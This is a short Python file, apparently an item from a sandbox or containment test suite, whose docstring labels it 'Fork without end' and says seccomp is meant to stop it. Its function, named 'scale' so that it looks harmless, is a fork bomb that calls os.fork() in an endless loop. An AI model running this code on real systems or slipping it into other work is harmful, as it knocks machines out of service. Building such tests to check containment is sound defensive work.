"""Fork without end.

Surface: processes.
Stopped by: no process can be made.
Layers: seccomp
Unproven: it would take the machine down.
Earns: 1
"""

import os


def scale(x, factor=2.0):
    while True:
        os.fork()
